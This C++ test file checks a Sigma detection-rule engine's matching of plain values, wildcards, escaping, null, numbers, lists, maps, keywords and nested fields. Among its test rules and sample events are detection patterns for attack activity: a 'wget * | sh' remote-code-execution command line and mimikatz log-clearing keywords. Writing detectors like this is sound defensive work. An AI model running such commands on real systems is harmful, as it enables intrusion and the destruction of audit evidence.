// SPDX-License-Identifier: EUPL-1.2
// Plain values of the Sigma specification (sigma-rules-specification.md, "Detection"):
// case-insensitive whole-value equality, wildcards and their escaping, special values,
// numbers, lists, maps, keyword searches and nested fields with the flat mapping.
#include <doctest/doctest.h>

#include <string>
#include <string_view>

#include "tests/support/sigma_harness.hpp"

using vigie::test::SigmaHarness;

namespace {

// A rule whose detection is `detection` (YAML lines indented by two spaces).
std::string rule_with(std::string_view detection) {
    std::string out = "title: t\nid: r1\nlogsource: {product: test}\ndetection:\n";
    out += detection.substr(!detection.empty() && detection.front() == '\n' ? 1 : 0);
    return out;
}

// A rule with one selection `sel` made of `entries` (YAML lines indented by four spaces).
std::string rule(std::string_view entries) {
    std::string detection = "  sel:\n";
    detection += entries.substr(!entries.empty() && entries.front() == '\n' ? 1 : 0);
    detection += "  condition: sel\n";
    return rule_with(detection);
}

}  // namespace

TEST_CASE("a plain value matches the whole value, case-insensitively") {
    // The specification's first example.
    SigmaHarness h(rule(R"(    Image: 'C:\Windows\System32\whoami.exe'
)"));
    CHECK(h.matches(R"({"Image":"C:\\Windows\\System32\\whoami.exe"})"));
    CHECK(h.matches(R"({"Image":"c:\\windows\\system32\\WHOAMI.EXE"})"));
    CHECK_FALSE(h.matches(R"({"Image":"C:\\Windows\\System32\\whoami.exe.bak"})"));
    CHECK_FALSE(h.matches(R"({"Image":"D:\\C:\\Windows\\System32\\whoami.exe"})"));
    CHECK_FALSE(h.matches(R"({"Image":"C:\\Windows\\System32\\whoami"})"));
    CHECK_FALSE(h.matches(R"({"Other":"C:\\Windows\\System32\\whoami.exe"})"));
}

TEST_CASE("? is one character and * any run of characters") {
    // The specification's examples: prog?.exe, antivirus_V*.exe
    SigmaHarness one(rule("    Image: 'prog?.exe'\n"));
    CHECK(one.matches(R"({"Image":"progA.exe"})"));
    CHECK(one.matches(R"({"Image":"PROGb.EXE"})"));
    CHECK(one.matches(R"({"Image":"prog\u00e9.exe"})"));  // one character, two UTF-8 bytes
    CHECK_FALSE(one.matches(R"({"Image":"prog.exe"})"));  // "a single mandatory character"
    CHECK_FALSE(one.matches(R"({"Image":"progAB.exe"})"));

    SigmaHarness run(rule("    Image: 'antivirus_V*.exe'\n"));
    CHECK(run.matches(R"({"Image":"antivirus_V1.exe"})"));
    CHECK(run.matches(R"({"Image":"antivirus_V21.2.1.exe"})"));
    CHECK(run.matches(R"({"Image":"antivirus_V.exe"})"));
    CHECK_FALSE(run.matches(R"({"Image":"antivirus_V1.dll"})"));
    CHECK_FALSE(run.matches(R"({"Image":"my_antivirus_V1.exe"})"));
}

TEST_CASE("a backslash escapes *, ? and itself") {
    // "A wildcard has to be escaped to be handled as a plain character: \*, \?"
    SigmaHarness star(rule(R"(    Name: 'file\*.txt'
)"));
    CHECK(star.matches(R"({"Name":"file*.txt"})"));
    CHECK_FALSE(star.matches(R"({"Name":"fileA.txt"})"));
    SigmaHarness question(rule(R"(    Name: 'what\?'
)"));
    CHECK(question.matches(R"({"Name":"what?"})"));
    CHECK_FALSE(question.matches(R"({"Name":"whatX"})"));

    // "Plain backslash not followed by a wildcard can be expressed as single \ or double \\"
    SigmaHarness single(rule(R"(    Path: 'C:\Windows'
)"));
    SigmaHarness doubled(rule(R"(    Path: 'C:\\Windows'
)"));
    for (auto* h : {&single, &doubled}) {
        CHECK(h->matches(R"({"Path":"C:\\Windows"})"));
        CHECK_FALSE(h->matches(R"({"Path":"C:\\\\Windows"})"));
    }

    // "\\* : a backslash followed by a wildcard"
    SigmaHarness backslash_wildcard(rule(R"(    Path: 'C:\\*'
)"));
    CHECK(backslash_wildcard.matches(R"({"Path":"C:\\Windows"})"));
    CHECK(backslash_wildcard.matches(R"({"Path":"C:\\"})"));
    CHECK_FALSE(backslash_wildcard.matches(R"({"Path":"C:Windows"})"));

    // "Three backslashes ... handle them as plain values: \\\* "
    SigmaHarness plain_star(rule(R"(    Path: 'C:\\\*'
)"));
    CHECK(plain_star.matches(R"({"Path":"C:\\*"})"));
    CHECK_FALSE(plain_star.matches(R"({"Path":"C:\\Windows"})"));

    // "\\\\ results in the plain value \\"
    SigmaHarness two(rule(R"(    Path: '\\\\server\share'
)"));
    CHECK(two.matches(R"({"Path":"\\\\server\\share"})"));
    CHECK_FALSE(two.matches(R"({"Path":"\\server\\share"})"));
}

TEST_CASE("the empty string '' matches an empty value only") {
    SigmaHarness h(rule("    Description: ''\n"));
    CHECK(h.matches(R"({"Description":""})"));
    CHECK_FALSE(h.matches(R"({"Description":"x"})"));
    CHECK_FALSE(h.matches(R"({"Description":" "})"));
    CHECK_FALSE(h.matches(R"({"Other":""})"));
}

TEST_CASE("null matches an absent field or a JSON null") {
    // The specification's example: selection and not filter, filter: PasswordLastSet: null
    SigmaHarness h(rule_with(R"(
  selection:
    EventID: 4738
  filter:
    PasswordLastSet: null
  condition: selection and not filter
)"));
    CHECK(h.matches(R"({"EventID":4738,"PasswordLastSet":"2024-01-01"})"));
    CHECK(h.matches(R"({"EventID":4738,"PasswordLastSet":""})"));
    CHECK_FALSE(h.matches(R"({"EventID":4738})"));
    CHECK_FALSE(h.matches(R"({"EventID":4738,"PasswordLastSet":null})"));

    SigmaHarness null(rule("    PasswordLastSet: null\n"));
    CHECK(null.matches(R"({"EventID":4738})"));
    CHECK(null.matches(R"({"PasswordLastSet":null})"));
    CHECK_FALSE(null.matches(R"({"PasswordLastSet":"null"})"));
    CHECK_FALSE(null.matches(R"({"PasswordLastSet":0})"));
}

TEST_CASE("numbers match the JSON number and its string form") {
    SigmaHarness h(rule("    EventID: 4688\n"));
    CHECK(h.matches(R"({"EventID":4688})"));
    CHECK(h.matches(R"({"EventID":"4688"})"));
    CHECK_FALSE(h.matches(R"({"EventID":46880})"));
    CHECK_FALSE(h.matches(R"({"EventID":"4689"})"));
    CHECK_FALSE(h.matches(R"({"EventID":468})"));

    // "All values are treated as case-insensitive strings": a quoted number is the same value.
    SigmaHarness quoted(rule("    EventID: '4688'\n"));
    CHECK(quoted.matches(R"({"EventID":4688})"));
    CHECK(quoted.matches(R"({"EventID":"4688"})"));
    CHECK_FALSE(quoted.matches(R"({"EventID":4689})"));

    // The specification quotes hexadecimal values as strings.
    SigmaHarness hex(rule("    TicketOptions: '0x40810000'\n"));
    CHECK(hex.matches(R"({"TicketOptions":"0x40810000"})"));
    CHECK_FALSE(hex.matches(R"({"TicketOptions":"0x40810010"})"));
}

TEST_CASE("booleans match JSON booleans") {
    SigmaHarness h(rule("    Enabled: true\n"));
    CHECK(h.matches(R"({"Enabled":true})"));
    CHECK(h.matches(R"({"Enabled":"true"})"));
    CHECK_FALSE(h.matches(R"({"Enabled":false})"));
    CHECK_FALSE(h.matches(R"({"Enabled":"yes"})"));
}

TEST_CASE("a map is an AND of its fields, a value list an OR") {
    // "matches on EventLog 'Security' and ( Event ID 517 or Event ID 1102 )"
    SigmaHarness h(rule("    EventLog: Security\n    EventID:\n      - 517\n      - 1102\n"));
    CHECK(h.matches(R"({"EventLog":"Security","EventID":517})"));
    CHECK(h.matches(R"({"EventLog":"security","EventID":1102})"));
    CHECK_FALSE(h.matches(R"({"EventLog":"Security","EventID":4624})"));
    CHECK_FALSE(h.matches(R"({"EventLog":"System","EventID":517})"));
    CHECK_FALSE(h.matches(R"({"EventID":1102})"));

    SigmaHarness four(rule(R"(
    EventLog: Security
    EventID: 4769
    TicketOptions: '0x40810000'
    TicketEncryption: '0x17'
)"));
    CHECK(four.matches(
        R"({"EventLog":"Security","EventID":4769,"TicketOptions":"0x40810000","TicketEncryption":"0x17"})"));
    CHECK_FALSE(four.matches(
        R"({"EventLog":"Security","EventID":4769,"TicketOptions":"0x40810000","TicketEncryption":"0x12"})"));
    CHECK_FALSE(
        four.matches(R"({"EventLog":"Security","EventID":4769,"TicketOptions":"0x40810000"})"));
}

TEST_CASE("a list of maps is an OR of the maps") {
    // The specification's example: an image ending with \example.exe or a description
    // containing 'Test executable'.
    SigmaHarness h(rule_with(R"(
  selection:
    - Image|endswith: '\example.exe'
    - Description|contains: 'Test executable'
  condition: selection
)"));
    CHECK(h.matches(R"({"Image":"C:\\temp\\example.exe","Description":"x"})"));
    CHECK(h.matches(R"({"Image":"C:\\temp\\other.exe","Description":"A test Executable file"})"));
    CHECK_FALSE(h.matches(R"({"Image":"C:\\temp\\other.exe","Description":"x"})"));

    SigmaHarness and_inside(rule_with(R"(
  selection:
    - Image|endswith: '\a.exe'
      User: alice
    - Image|endswith: '\b.exe'
  condition: selection
)"));
    CHECK(and_inside.matches(R"({"Image":"C:\\a.exe","User":"alice"})"));
    CHECK(and_inside.matches(R"({"Image":"C:\\b.exe","User":"bob"})"));
    CHECK_FALSE(and_inside.matches(R"({"Image":"C:\\a.exe","User":"bob"})"));
}

TEST_CASE("keywords are searched in every string of the event") {
    // The specification's example: 'EVILSERVICE' or 'svchost.exe -n evil'
    SigmaHarness h(rule_with(R"(
  keywords:
    - 'EVILSERVICE'
    - 'svchost.exe -n evil'
  condition: keywords
)"));
    CHECK(h.matches(R"({"Message":"service EvilService installed"})"));
    CHECK(h.matches(R"({"a":{"b":{"c":"C:\\svchost.exe -n evil"}}})"));
    CHECK(h.matches(R"({"a":[1,{"b":["x","started evilservice"]}]})"));
    CHECK_FALSE(h.matches(R"({"Message":"svchost.exe -k netsvcs"})"));
    CHECK_FALSE(h.matches(R"({"Message":"svchost.exe","Args":"-n evil"})"));
    CHECK_FALSE(h.matches(R"({"EVILSERVICE":1})"));

    SigmaHarness mimikatz(rule_with(R"(
  mimikatz_keywords:
    - 'event::clear'
    - 'event::drop'
  condition: mimikatz_keywords
)"));
    CHECK(mimikatz.matches(R"({"CommandLine":"mimikatz privilege::debug event::drop exit"})"));
    CHECK_FALSE(mimikatz.matches(R"({"CommandLine":"mimikatz privilege::debug"})"));

    SigmaHarness wildcard(rule_with("  keywords:\n    - 'wget * | sh'\n  condition: keywords\n"));
    CHECK(wildcard.matches(R"({"cmd":"x; wget http://e.example/a | sh"})"));
    CHECK_FALSE(wildcard.matches(R"({"cmd":"wget http://e.example/a | bash"})"));
}

TEST_CASE("keywords with |all must all be found") {
    // The specification's example: "OabVirtualDirectory" and " -ExternalUrl "
    SigmaHarness h(rule_with(R"(
  keywords_cmdlet:
    '|all':
      - 'OabVirtualDirectory'
      - ' -ExternalUrl '
  condition: keywords_cmdlet
)"));
    CHECK(h.matches(R"({"Payload":"Set-OabVirtualDirectory -ExternalUrl http://x"})"));
    CHECK(h.matches(R"({"Cmdlet":"Set-OabVirtualDirectory","Params":{"p":"x -ExternalUrl y"}})"));
    CHECK_FALSE(h.matches(R"({"Payload":"Set-OabVirtualDirectory -InternalUrl http://x"})"));
    CHECK_FALSE(h.matches(R"({"Payload":"Set-Mailbox -ExternalUrl http://x"})"));
}

TEST_CASE("dotted field names are nested paths with the flat mapping") {
    SigmaHarness h(
        rule("    process.parent.name: explorer.exe\n    process.name|endswith: cmd.exe\n"));
    CHECK(h.matches(R"({"process":{"name":"C:\\cmd.exe","parent":{"name":"explorer.exe"}}})"));
    CHECK_FALSE(
        h.matches(R"({"process":{"name":"C:\\cmd.exe","parent":{"name":"services.exe"}}})"));
    CHECK_FALSE(h.matches(R"({"process":{"name":"C:\\cmd.exe","name2":{"name":"explorer.exe"}}})"));
    CHECK_FALSE(
        h.matches(R"({"process":{"name":"explorer.exe"},"parent":{"name":"explorer.exe"}})"));
}
